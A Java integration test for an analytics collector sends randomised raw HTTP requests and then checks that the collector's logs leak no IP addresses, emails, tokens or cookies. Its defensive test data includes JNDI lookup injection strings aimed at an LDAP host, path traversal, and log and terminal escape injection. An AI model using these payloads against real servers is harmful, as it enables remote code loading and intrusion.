package dev.oceanus.collector;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.oceanus.testkit.redis.RedisServer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/** O02: a collector's log says nothing about who sent what, whatever happens to it. */
@Tag("slow")
@Timeout(180)
class LogPrivacyIT {
  private static final long SEED = 20_261_125;
  private static final int REQUESTS = 600;

  /** What stands in the requests, and must not stand in a log. */
  private static final List<Pattern> PERSONAL =
      List.of(
          Pattern.compile("\\b(?!127\\.0\\.0\\.1\\b)\\d{1,3}(\\.\\d{1,3}){3}\\b"),
          Pattern.compile("(?i)2001:db8"),
          Pattern.compile("[\\w.+-]+(@|%40)[\\w-]+\\.[a-z]+"),
          Pattern.compile("(?i)bearer|token|s3cret|session_cookie|no_stats"),
          Pattern.compile("[?&][A-Za-z_]+="),
          Pattern.compile("jndi|\u001b|Mozilla|/v1/|evt"));

  @TempDir Path folder;

  @ParameterizedTest
  @ValueSource(strings = {"json", "text"})
  void holdsNothingOfWhatWasSent(String format) throws Exception {
    try (RedisServer redis = RedisServer.start();
        CollectorProcess collector = new CollectorProcess(settings(redis, format)).started()) {
      Random random = new Random(SEED);
      Set<Integer> statuses = new TreeSet<>();
      send(collector, random, REQUESTS / 2, statuses);
      redis.kill();
      send(collector, random, 20, statuses);
      redis.restart();
      await()
          .until(() -> RawHttp.get(collector.httpPort(), "/v1/pixel/demo?evt=e").status() == 200);
      send(collector, random, REQUESTS / 2, statuses);
      collector.terminate();
      assertThat(collector.exitCode()).isZero();
      List<String> lines = collector.output();
      assertThat(statuses).as("what was answered").contains(200, 204, 400, 403, 404, 405, 500);
      assertThat(lines).anyMatch(line -> line.contains("a request met a fault of ours"));
      assertThat(lines).anyMatch(line -> line.contains("Redis does not take events"));
      assertThat(lines).allSatisfy(LogPrivacyIT::saysNothing);
      assertThat(lines).allSatisfy(line -> hasItsForm(line, format));
    }
  }

  private static void saysNothing(String line) {
    for (Pattern personal : PERSONAL) {
      assertThat(line).doesNotContainPattern(personal);
    }
  }

  private static void hasItsForm(String line, String format) {
    if (format.equals("json")) {
      assertThat(JsonMapper.shared().readTree(line).get("severity").isString()).isTrue();
    } else {
      assertThat(line).matches("(\\d\\d:\\d\\d:\\d\\d\\.\\d{3} (DEBUG|INFO |WARN |ERROR) |\t).*");
    }
  }

  private Map<String, String> settings(RedisServer redis, String format) throws IOException {
    Path sites = folder.resolve("sites.yaml");
    Files.writeString(
        sites,
        """
        sites:
          demo:
            origins: ["https://shop.example"]
            privacy:
              ip: truncate
              signals: [gpc]
              opt_out_cookie: no_stats
              then: anonymise
              mask: [email]
              cookie: {name: session_cookie}
          daily:
            privacy: {visitor: daily, url_parameters: drop}
        """);
    return Map.of(
        "OCEANUS_SITES_FILE",
        sites.toString(),
        "OCEANUS_REDIS_URL",
        redis.url(),
        "OCEANUS_LOG_FORMAT",
        format,
        "OCEANUS_LOG_LEVEL",
        "debug",
        "OCEANUS_TRUSTED_HOPS",
        "1",
        "OCEANUS_FAIL_POINTS",
        "collector-received=throw@20");
  }

  private static void send(
      CollectorProcess collector, Random random, int requests, Set<Integer> statuses)
      throws IOException {
    for (int i = 0; i < requests; i++) {
      byte[] request = request(random).getBytes(ISO_8859_1);
      statuses.add(RawHttp.attempt(collector.httpPort(), request).status());
    }
  }

  private static final List<String> BODIES =
      List.of(
          "{\"evt\":\"buy\",\"uid\":\"me@x.example\",\"jsn\":{\"email\":\"me@x.example\"}}",
          "[{\"evt\":\"a\"},{\"x\":\"me@x.example\"}]",
          "{\"evt\":\"\\n12:00:00.000 ERROR x\",\"url\":\"https://x.example/?token=s3cret\"}",
          "{\"evt\":[\"203.0.113.9\"]}",
          "{\"evt\":\"${jndi:ldap://203.0.113.9/a}\",\"eid\":\"me@x.example\"}",
          "no json: me@x.example 203.0.113.9",
          "email=me%40x.example&token=s3cret&_next=https%3A%2F%2Fx.example",
          "\u00ff\u00fe\u001b[2J",
          "");
  private static final List<String> TARGETS =
      List.of(
          "POST /v1/events/demo",
          "POST /v1/events/daily?email=me%40x.example",
          "POST /v1/form/demo",
          "GET /v1/pixel/demo?evt=e&uid=me%40x.example&url=https://x.example/?token=s3cret",
          "GET /v1/pixel/daily?evt=e&vid=203.0.113.9",
          "GET /v1/pixel/demo?email=me@x.example",
          "GET /v1/pixel/me@x.example?evt=e",
          "GET /../../2001:db8::1?token=s3cret",
          "GET /v1/pixel/demo?evt=%zz&token=s3cret",
          "BREW /v1/pixel/demo?token=s3cret",
          "GET me@x.example",
          "me@x.example 203.0.113.9 HTTP/9");

  private static final List<String> ODD =
      List.of(
          "",
          "",
          "",
          "Sec-GPC: 1\r\n",
          "DNT: 1\r\n",
          "Origin: https://shop.example\r\n",
          "Origin: me@x.example\r\n",
          "Referer: https://x.example/?token=s3cret\r\n",
          "Content-Type: text/plain\r\n",
          "Content-Type: application/x-www-form-urlencoded\r\n",
          "Content-Type: me@x.example\r\n",
          "Expect: me@x.example\r\n",
          "Transfer-Encoding: me@x.example\r\n",
          "me@x.example\r\n");

  private static String request(Random random) {
    String target = pick(random, TARGETS);
    String body = target.startsWith("POST") ? pick(random, BODIES) : "";
    String agent =
        pick(
            random,
            List.of(
                "Mozilla/5.0 (X11; me@x.example)",
                "${jndi:ldap://203.0.113.9/a}",
                "me@x.example \u009b31m",
                "${jndi:dns://198.51.100.7}",
                "a".repeat(20_000)));
    return target
        + " HTTP/1.1\r\nHost: 203.0.113.9\r\nX-Forwarded-For: "
        + pick(random, List.of("203.0.113.9", "2001:db8::1", "me@x.example", "198.51.100.7:1"))
        + "\r\nUser-Agent: "
        + agent
        + "\r\nCookie: "
        + pick(random, List.of("session_cookie=s3cret", "no_stats=1", "a=me@x.example"))
        + "\r\nAuthorization: Bearer s3cret\r\n"
        + pick(random, ODD)
        + pick(random, ODD)
        + (body.isEmpty() ? "" : "Content-Length: " + body.length() + "\r\n")
        + "\r\n"
        + body;
  }

  private static <T> T pick(Random random, List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
